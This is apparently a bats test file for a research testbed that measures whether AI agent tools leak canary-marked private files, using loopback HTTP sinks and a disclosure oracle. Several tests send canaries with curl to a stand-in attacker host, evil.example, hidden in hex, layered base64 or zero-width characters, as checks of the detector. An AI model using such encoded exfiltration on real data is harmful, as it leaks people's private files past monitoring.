#!/usr/bin/env bats
# The testbed (issue 6 items 1 and 3; paper §VII-A "Testbed and counts",
# "Disclosure oracle"): testbed/world.py, testbed/sinks.py, testbed/oracle.py.
# docs/testbed.md describes them. Sinks are real HTTP servers on loopback,
# driven with curl; every oracle detection is shown to depend on its decoder
# (--disable gives 0) and near-misses count nothing.
load helpers
bats_require_minimum_version 1.5.0

TB=$GL_ROOT/testbed

setup() {
  gl_setup
  W=$BATS_TEST_TMPDIR/w
  L=$BATS_TEST_TMPDIR/logs
  SINKS_PID=
}

teardown() {
  if [ -n "$SINKS_PID" ] && kill -0 "$SINKS_PID" 2>/dev/null; then
    kill -TERM "$SINKS_PID"; wait "$SINKS_PID" || true
  fi
}

world() { "$SYSPY" "$TB/world.py" --seed "${1:-1}" --out "${2:-$W}" ${3:+--root "$3"}; }
# canary ITEM — the canary of item ITEM in $W
canary() { jq -er --arg n "$1" '.items[] | select(.name == $n) | .canary' "$W/world.json"; }
HR=Documents/hr/salaries-2027.pdf
FIN=Documents/finance/invoice-1042.pdf
CAROL=Mail/Drafts/to-carol-board-update.eml

start_sinks() {
  "$SYSPY" "$TB/sinks.py" --world "$W" --logs "$L" --attacker evil.example \
    --pidfile "$BATS_TEST_TMPDIR/sinks.pid" </dev/null >/dev/null 2>"$BATS_TEST_TMPDIR/sinks.err" &
  SINKS_PID=$!
  for _ in $(seq 100); do [ -s "$BATS_TEST_TMPDIR/sinks.pid" ] && return 0; sleep 0.05; done
  cat "$BATS_TEST_TMPDIR/sinks.err"; false
}
# url HOST — the base URL of HOST's sink
url() { echo "http://$(jq -er --arg h "$1" '.[$h]' "$W/routes.json")"; }

# enc KIND TEXT — TEXT encoded: raw url url2 b64x3 b64x3url b64x3lines hex zw
enc() {
  "$SYSPY" - "$1" "$2" <<'PY'
import base64, sys
kind, t = sys.argv[1], sys.argv[2].encode()
pct = lambda b: "".join("%%%02X" % c for c in b)
if kind == "raw": out = t.decode()
elif kind == "url": out = pct(t)
elif kind == "url2": out = pct(pct(t).encode())
elif kind == "b64x3":
    for _ in range(3): t = base64.b64encode(t)
    out = t.decode()
elif kind == "b64x3url":
    for _ in range(3): t = base64.urlsafe_b64encode(t).rstrip(b"=")
    out = t.decode()
elif kind == "b64x3lines":
    for _ in range(2): t = base64.b64encode(t)
    out = base64.encodebytes(b"x" * 40 + t).decode()
elif kind == "hex": out = t.hex().upper()
elif kind == "zw":
    bits = "".join(format(c, "08b") for c in t)
    out = "hello " + "".join("\u200b" if b == "0" else "\u200c" for b in bits) + " world"
sys.stdout.write(out)
PY
}
# oracle [ARGS] — run the oracle on $W and $L
oracle() { run --separate-stderr "$SYSPY" "$TB/oracle.py" --world "$W" --logs "$L" "$@"; [ "$status" -eq 0 ]; }

@test "world: the same seed gives byte-identical files, another seed other canaries" {
  world 7 "$BATS_TEST_TMPDIR/a" /home/pat
  world 7 "$BATS_TEST_TMPDIR/b" /home/pat
  diff -r "$BATS_TEST_TMPDIR/a" "$BATS_TEST_TMPDIR/b"
  world 8 "$BATS_TEST_TMPDIR/c" /home/pat
  ! cmp -s "$BATS_TEST_TMPDIR/a/world.json" "$BATS_TEST_TMPDIR/c/world.json"
  # No canary of seed 7 appears in seed 8's world, and every file of the
  # world is listed in world.json's "files".
  for c in $(jq -r '.items[].canary // empty' "$BATS_TEST_TMPDIR/a/world.json"); do
    ! grep -rq "$c" "$BATS_TEST_TMPDIR/c"
  done
  [ "$(cd "$BATS_TEST_TMPDIR/a/home" && find . -type f | sed 's#^\./##' | sort | jq -Rsc 'split("\n")[:-1]')" = \
    "$(jq -c .files "$BATS_TEST_TMPDIR/a/world.json")" ]
  # The repository is a working git repository with two fixed commits.
  if command -v git >/dev/null; then
    [ "$(git -C "$BATS_TEST_TMPDIR/a/home/Code/projx" log --format=%ad --date=unix | paste -sd,)" = 1800003600,1799917200 ]
    # clean, apart from the partner's patch under review (docs/testbed.md "The marker")
    [ "$(git -C "$BATS_TEST_TMPDIR/a/home/Code/projx" status --porcelain)" = "?? contrib/" ]
  fi
}

@test "world: every protected item carries its own canary and its label; public ones none" {
  world 3
  [ "$(jq '[.items[] | select(.label != [])] | length' "$W/world.json")" -ge 19 ]
  [ "$(jq '[.items[].canary // empty] | unique | length' "$W/world.json")" = \
    "$(jq '[.items[] | select(.label != [])] | length' "$W/world.json")" ]
  [ "$(jq -r '[.items[].label[]] | unique | join(",")' "$W/world.json")" = board,finance,hr,projx,secrets ]
  [ "$(jq -r '[.items[].kind] | unique | join(",")' "$W/world.json")" = credentials,mail,pdf,sqlite,text ]
  while IFS=$'\t' read -r name path canary label; do
    case $path in "$(realpath "$W")/home/"*) ;; *) echo "bad path $path"; false ;; esac
    [[ "$canary" =~ ^GLC-[0-9a-f]{16}$ ]] || { echo "$name: $canary"; false; }
    case $name in
      *.sqlite) "$SYSPY" -c 'import sqlite3,sys; sys.stdout.write("\n".join(sqlite3.connect(sys.argv[1]).iterdump()))' "$path" | grep -qF "$canary" ;;
      *) grep -qF "$canary" "$path" || { echo "$name lacks $canary"; false; } ;;
    esac
    # The label the policy gives the item's path is the item's label.
    [ "$("$SYSPY" "$TB/globs.py" "$W/policy.json" "$path" | cut -f2)" = "$label" ]
  done < <(jq -r '.items[] | select(.canary) | [.name, .path, .canary, (.label | tojson)] | @tsv' "$W/world.json")
  # The PDFs are PDFs and the public files carry no canary at all.
  [ "$(head -c 8 "$W/home/$FIN")" = "%PDF-1.4" ]
  for c in $(jq -r '.items[].canary // empty' "$W/world.json"); do
    ! grep -rqF "$c" "$W/home/Documents/public" "$W/home/Mail/Drafts/to-dave-press.eml"
  done
}

@test "world: the policy labels every file of the home, checked by gl-plan itself" {
  world 5
  REL=$BATS_TEST_TMPDIR/releases
  sha=$(sha256sum "$FIX/plan/manifests/docs.json" | cut -c1-64)
  mkdir -p "$REL/$sha" && cp "$FIX/plan/manifests/docs.json" "$REL/$sha/manifest.json"
  root=$(jq -r .root "$W/world.json")
  paths=$(jq -c --arg r "$root" '[.files[] | $r + "/" + .]' "$W/world.json")
  run --separate-stderr gl-plan --policy "$W/policy.json" --releases "$REL" \
    <<<"{\"release\":\"$sha\",\"function\":\"read_files\",\"args\":{\"paths\":$paths}}"
  [ "$status" -eq 0 ] || { echo "$output $stderr"; false; }
  [ "$(json '.items | length')" = "$(jq '.files | length' "$W/world.json")" ]
  # gl-plan's label of every item's path is the item's label.
  run jq -c --slurpfile w "$W/world.json" '(map({key: .name, value: .label}) | from_entries) as $m
    | [$w[0].items[] | select($m[.path] != .label) | .name]' < <(json -c '.items')
  [ "$output" = "[]" ]
  # And a file outside the world's globs is refused, never public.
  run --separate-stderr gl-plan --policy "$W/policy.json" --releases "$REL" \
    <<<"{\"release\":\"$sha\",\"function\":\"read_files\",\"args\":{\"path\":\"$root/Downloads/x.txt\"}}"
  [ "$(json -r .error)" = unlabelled_path ]
}

@test "sinks: one server per destination and attacker, every byte recorded, routes written" {
  world 1
  start_sinks
  [ "$(jq -r 'keys | join(",")' "$W/routes.json")" = \
    blog.example,evil.example,lint.example,mail-alice.example,mail-bob.example,mail-carol.example,mail-dave.example,ocr.example,web.example ]
  [ "$(jq -Sc .routes "$W/policy.json")" = "$(jq -Sc . "$W/routes.json")" ]
  [ "$(jq -r '.labels | length' "$W/policy.json")" -gt 0 ]
  "$SYSPY" -c 'import os,sys; sys.stdout.buffer.write(bytes(range(256))*4 + os.urandom(200000))' >"$BATS_TEST_TMPDIR/bin"
  run curl -sS -X PUT -H "Host: ocr.example" -H "X-Odd: a b" --data-binary @"$BATS_TEST_TMPDIR/bin" "$(url ocr.example)/up?q=1"
  [ "$status" -eq 0 ]
  [ "$(json -r .sink)" = ocr.example ]
  [ "$(json -r .received)" = "$(stat -c %s "$BATS_TEST_TMPDIR/bin")" ]
  # chunked transfer encoding is read to its end too
  curl -sS -H "Transfer-Encoding: chunked" --data-binary @"$BATS_TEST_TMPDIR/bin" "$(url evil.example)/c" >/dev/null
  curl -sS "$(url blog.example)/post/%41?x=%00" >/dev/null
  for h in ocr.example evil.example; do
    [ "$(wc -l <"$L/$h.jsonl")" = 1 ]
    jq -r .body "$L/$h.jsonl" | base64 -d | cmp - "$BATS_TEST_TMPDIR/bin"
  done
  [ "$(jq -r '[.method, .path, .host, .sink, .seq] | join(" ")' "$L/ocr.example.jsonl")" = "PUT /up?q=1 ocr.example ocr.example 1" ]
  [ "$(jq -r '.headers[] | select(.[0] == "X-Odd") | .[1]' "$L/ocr.example.jsonl")" = "a b" ]
  [ "$(jq -r '[.method, .path, .body] | join(" ")' "$L/blog.example.jsonl")" = "GET /post/%41?x=%00 " ]
  [ ! -s "$L/web.example.jsonl" ]
}

@test "sinks: SIGTERM stops every server and leaves no process, no pidfile, no port" {
  world 1
  start_sinks
  port=$(jq -r '."ocr.example" | split(":")[1]' "$W/routes.json")
  curl -sS "http://127.0.0.1:$port/" >/dev/null
  kill -TERM "$SINKS_PID"
  wait "$SINKS_PID"
  ! kill -0 "$SINKS_PID" 2>/dev/null
  [ -z "$(pgrep -f "$TB/sinks.py --world $W " || true)" ]
  [ ! -e "$BATS_TEST_TMPDIR/sinks.pid" ]
  run curl -sS --max-time 2 "http://127.0.0.1:$port/"
  [ "$status" -ne 0 ]
  SINKS_PID=
}

# send WHERE HOST VALUE — one request to HOST's sink carrying VALUE in the
# path, a header or the body; then keep only that request in $L (a case).
send() {
  local where=$1 host=$2 v=$3 u
  u=$(url "$host")
  : >"$L/$host.jsonl"
  case $where in
    path) curl -sS --path-as-is "$u/x/${v// /_}" >/dev/null ;;
    header) curl -sS -H "X-Trace: $v" "$u/x" >/dev/null ;;
    body) printf '%s' "$v" >"$BATS_TEST_TMPDIR/body"; curl -sS --data-binary @"$BATS_TEST_TMPDIR/body" "$u/x" >/dev/null ;;
  esac
  [ "$(wc -l <"$L/$host.jsonl")" = 1 ]
}

@test "oracle: a canary in every encoding, in path, header and body, is found; each needs its decoder" {
  world 11
  start_sinks
  c=$(canary "$HR")
  for where in path header body; do
    for kind in raw url url2 b64x3 b64x3url hex zw; do
      [ "$where $kind" = "header zw" ] && continue   # below, as UTF-8 bytes
      v=$(enc "$kind" "id:$c")
      send "$where" blog.example "$v"
      oracle
      # the verdict's count, first disclosure, its where and encoding: one jq
      # (a jq 1.6 start costs ~45 ms of CPU; there were four)
      IFS=$'\t' read -r n d1 at enc_ < <(json '[.count, (.disclosures[0] | [.sink, .canary, .item,
        .source, .label] | tojson), .disclosures[0].where, .disclosures[0].encoding]
        | map(tostring) | join("\t")')
      [ "$n" = 1 ] || { echo "$where $kind: $output"; false; }
      [ "$d1" = "[\"blog.example\",\"$c\",\"$HR\",\"tool\",[\"hr\"]]" ]
      [[ "$at" == "$where"* ]]
      case $kind in
        raw) [ "$enc_" = raw ]; off=none ;;
        url) [ "$enc_" = url ]; off=url,form ;;
        url2) [ "$enc_" = url\>url ]; off=url,form ;;
        b64x3 | b64x3url) [ "$enc_" = "base64>base64>base64" ]; off=base64 ;;
        hex) [ "$enc_" = hex ]; off=hex ;;
        zw) [[ "$enc_" == *zero-width ]]; off=zero-width ;;
      esac
      [ "$off" = none ] && continue
      oracle --disable "$off"
      [ "$(json .count)" = 0 ] || { echo "$where $kind with $off off: $output"; false; }
    done
  done
  # Zero-width bits in a header (UTF-8 bytes on the wire), and a canary
  # interleaved with zero-width joiners in a body.
  send header blog.example "$(enc zw "$c")"
  oracle; [ "$(json .count)" = 1 ]
  oracle --disable zero-width; [ "$(json .count)" = 0 ]
  send body blog.example "$(printf '%s' "$c" | sed 's/./&\xe2\x80\x8d/g')"
  oracle; [ "$(json -r '.disclosures[0].encoding')" = zero-width ]
  oracle --disable zero-width; [ "$(json .count)" = 0 ]
  # Base64 with line breaks (MIME style) three levels deep, inside JSON.
  send body blog.example "{\"doc\":$(enc b64x3lines "$c" | jq -Rs .)}"
  oracle; [ "$(json .count)" = 1 ]
  oracle --disable base64; [ "$(json .count)" = 0 ]
}

@test "oracle: cleared sinks count nothing; mail counts per recipient" {
  world 12
  start_sinks
  hr=$(canary "$HR"); fin=$(canary "$FIN"); bc=$(canary "$CAROL")
  send body mail-bob.example "$hr"; oracle; [ "$(json .count)" = 0 ]
  send body mail-alice.example "$hr"; oracle; [ "$(json .count)" = 1 ]
  [ "$(json -r '.disclosures[0].sink')" = mail-alice.example ]
  send body ocr.example "$(enc b64x3 "$fin")"; oracle; [ "$(json .count)" = 1 ]  # alice's case still logged
  : >"$L/mail-alice.example.jsonl"
  oracle; [ "$(json .count)" = 0 ]                               # finance at OCR: cleared
  send body mail-carol.example "$bc"; oracle; [ "$(json .count)" = 0 ]   # [board,finance] ⊆ carol's
  send body mail-bob.example "$bc"; oracle; [ "$(json .count)" = 1 ]     # not ⊆ bob's [hr]
  send body mail-dave.example "$fin $hr"; oracle; [ "$(json .count)" = 3 ]
  [ "$(json -r '[.disclosures[].sink] | join(",")')" = mail-bob.example,mail-dave.example,mail-dave.example ]
  send body evil.example "$(enc hex "$fin")"; oracle; [ "$(json .count)" = 4 ]  # an attacker host is public
}

@test "oracle: what the agent forwards is the agent's, not the tool's" {
  world 13
  start_sinks
  hr=$(canary "$HR"); fin=$(canary "$FIN")
  u=$(url blog.example)
  curl -sS --data-binary "summary: $hr" "$u/post" >/dev/null      # the agent's own post
  curl -sS --data-binary "$(enc b64x3 "$fin")" "$u/x" >/dev/null  # the tool's
  printf '{"destination":"blog.example","method":"POST","path":"/post","body":"%s"}\n' \
    "$(printf 'summary: %s' "$hr" | base64 -w0)" >"$BATS_TEST_TMPDIR/agent.jsonl"
  oracle --agent-forwarded "$BATS_TEST_TMPDIR/agent.jsonl"
  [ "$(json -c '[.count, .tool, .agent]')" = '[2,1,1]' ]
  [ "$(json -r '.disclosures[] | select(.source == "agent") | .canary')" = "$hr" ]
  [ "$(json -r '.disclosures[] | select(.source == "tool") | .canary')" = "$fin" ]
  # Without the file both are the tool's; a second identical post by the
  # tool is not hidden by the agent's one send.
  oracle; [ "$(json -c '[.count, .tool, .agent]')" = '[2,2,0]' ]
  curl -sS --data-binary "summary: $hr" "$u/post" >/dev/null
  oracle --agent-forwarded "$BATS_TEST_TMPDIR/agent.jsonl"
  [ "$(json -c '[.count, .tool, .agent]')" = '[3,2,1]' ]
}

@test "oracle: canary-free traffic and near-misses count nothing" {
  world 14
  start_sinks
  c=$(canary "$HR")
  # Public content, binary noise and other seeds' canaries.
  curl -sS --data-binary @"$W/home/Documents/public/press-release.txt" "$(url blog.example)/p" >/dev/null
  head -c 100000 /dev/urandom >"$BATS_TEST_TMPDIR/noise"
  curl -sS --data-binary @"$BATS_TEST_TMPDIR/noise" "$(url web.example)/n" >/dev/null
  world 15 "$BATS_TEST_TMPDIR/other"
  curl -sS --data-binary @"$BATS_TEST_TMPDIR/other/home/$HR" "$(url blog.example)/o" >/dev/null
  # One character changed, in every encoding.
  last=${c: -1}; [ "$last" = 0 ] && sub=1 || sub=0
  near=${c%?}$sub
  for kind in raw url url2 b64x3 hex zw; do
    curl -sS --data-binary "$(enc "$kind" "$near")" "$(url blog.example)/q" >/dev/null
  done
  curl -sS -H "X-N: $(enc b64x3url "${c/GLC-/GLC_}")" "$(url blog.example)/r" >/dev/null
  oracle
  [ "$(json .count)" = 0 ] || { echo "$output"; false; }
  [ "$(json .requests_scanned)" = 10 ]
  # The same requests with the real canary are all found (the test can fail).
  for kind in raw url url2 b64x3 hex zw; do
    curl -sS --data-binary "$(enc "$kind" "$c")" "$(url blog.example)/q" >/dev/null
  done
  oracle
  [ "$(json .disclosures[0].requests)" = 6 ]
}

@test "the world's own files, sent whole, disclose through the oracle (PDF, SQLite, git object)" {
  world 16
  start_sinks
  for f in "$HR" Databases/hr.sqlite; do
    curl -sS --data-binary @"$W/home/$f" "$(url blog.example)/f" >/dev/null
  done
  if command -v git >/dev/null; then   # a zlib-compressed git object of config.py
    obj=$(git -C "$W/home/Code/projx" rev-parse HEAD:src/projx/config.py)
    curl -sS --data-binary @"$W/home/Code/projx/.git/objects/${obj:0:2}/${obj:2}" "$(url web.example)/g" >/dev/null
  fi
  oracle
  [ "$(json -r '[.disclosures[].item] | sort | join(",")')" = "Code/projx/src/projx/config.py,Databases/hr.sqlite,$HR" ]
  [ "$(json -r '.disclosures[] | select(.sink == "web.example") | .encoding')" = zlib ]
  oracle --disable zlib
  [ "$(json .count)" = 2 ]
}

# The variants (issue 18; docs/testbed.md "Releases"): generated from each
# server's 1.0.0 module, one template per attack and docs' diffs. SHA256SUMS
# lists the 209 files of testbed/releases/ as committed before generation
# (one-off diff -r: identical), so the generator reproduces them byte for
# byte; a changed template is caught (the check can fail). A variant added
# since adds its own files (docs-sigq, docs-native: 213).
@test "variants: variants.py writes every release module as committed before, byte for byte and no more; a changed template is caught" {
  local sums=$TB/variants/SHA256SUMS
  "$SYSPY" "$TB/variants.py" "$BATS_TEST_TMPDIR/m"
  (cd "$BATS_TEST_TMPDIR/m" && sha256sum --quiet --strict -c "$sums")
  [ "$(cd "$BATS_TEST_TMPDIR/m" && find . -type f | wc -l)" -eq "$(wc -l <"$sums")" ]
  [ "$(wc -l <"$sums")" -eq 213 ]
  # off: one word of one template changed — the sums no longer hold
  cp -R "$TB" "$BATS_TEST_TMPDIR/tb"
  sed -i 's/every item of every earlier call/every item of every later call/' "$BATS_TEST_TMPDIR/tb/variants/dormant.py.in"
  "$SYSPY" "$BATS_TEST_TMPDIR/tb/variants.py" "$BATS_TEST_TMPDIR/m2"
  run -1 sh -c 'cd "$1" && sha256sum --quiet -c "$2"' sh "$BATS_TEST_TMPDIR/m2" "$sums"
  [[ "$output" == *"lint-dormant/lint_ext.py: FAILED"* ]]
  [[ "$output" == *"sql-dormant/sql_ext.py: FAILED"* ]]
  # a diff that no longer applies fails the generation, never guesses
  sed -i 's/^-"""docs 1.0.0 /-"""docs 0.9.9 /' "$BATS_TEST_TMPDIR/tb/variants/patches/docs-direct/docs_tool.py.diff"
  run ! "$SYSPY" "$BATS_TEST_TMPDIR/tb/variants.py" "$BATS_TEST_TMPDIR/m3"
  [[ "$output" == *"does not apply"* ]]
}
